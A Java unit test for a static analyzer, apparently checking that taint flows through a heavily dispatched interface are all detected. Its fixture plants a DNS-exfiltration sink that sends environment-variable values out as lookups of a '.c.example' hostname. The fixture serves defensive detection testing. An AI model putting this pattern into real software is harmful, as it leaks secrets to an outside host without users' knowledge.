package dev.clearbox.analyzers.source;

import dev.clearbox.core.Finding;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A call with more targets than it once followed (48) reaches every one of them through the nodes its target set
 * shares with the other calls of that set: the leak in the 60th implementation is found from every call site, each
 * path placed at its own call, nothing reported as cut, and the same result on one thread or several.
 */
class SharedDispatchTest {
    @TempDir
    Path root;

    private SourceFixture program(Path dir, int threads) {
        SourceFixture f = SourceFixture.in(dir).threads(threads).file("p/Channel.java", """
                package p;
                interface Channel {
                    void send(String data) throws Exception;
                }
                """);
        for (int i = 1; i <= 60; i++) {
            String body = i == 60 ? "java.net.InetAddress.getByName(data + \".c.example\");" : "System.out.println(data);";
            f.file("p/Ch" + i + ".java", "package p;\nclass Ch" + i + " implements Channel {\n"
                    + "    public void send(String data) throws Exception {\n        " + body + "\n    }\n}\n");
        }
        StringBuilder callers = new StringBuilder("package p;\nclass A {\n");
        for (int i = 0; i < 20; i++) {
            callers.append("    void f").append(i).append("(Channel c) throws Exception {\n")
                    .append("        c.send(System.getenv(\"T").append(i).append("\"));\n    }\n");
        }
        return f.file("p/A.java", callers.append("}\n").toString());
    }

    @Test
    void theSixtiethImplementationIsReachedFromEveryCallThreadsAside() {
        SourceAnalysisResult one = program(root.resolve("one"), 1).analyze();
        SourceAnalysisResult three = program(root.resolve("three"), 3).analyze();
        assertEquals(one, three, "the result does not depend on the number of threads");
        List<Finding> flows = one.findings().stream().filter(x -> x.ruleId().equals("CBX-SRC-EXFIL")).toList();
        // the 20 calls' flows are one finding of one kind (grouped), each call a source of it
        assertEquals(1, flows.size(), flows.toString());
        Finding f = flows.get(0);
        assertEquals("p/Ch60.java", f.location().file());
        assertEquals(20, f.flow().grouped(), f.toString());
        assertEquals(19, f.flow().alsoFrom().size(), f.toString());
        int caller = f.flow().source().line();
        // the link through the shared node is placed at the call it came through, not at another call of the set
        assertTrue(f.path().stream().anyMatch(s -> s.location().file().equals("p/A.java")
                && s.location().line() == caller && s.note().contains("passed to Ch60.send")), f.path().toString());
        assertTrue(one.coverage().flowLimits().stream().noneMatch(l -> l.contains("implementations")),
                one.coverage().flowLimits().toString());
    }
}
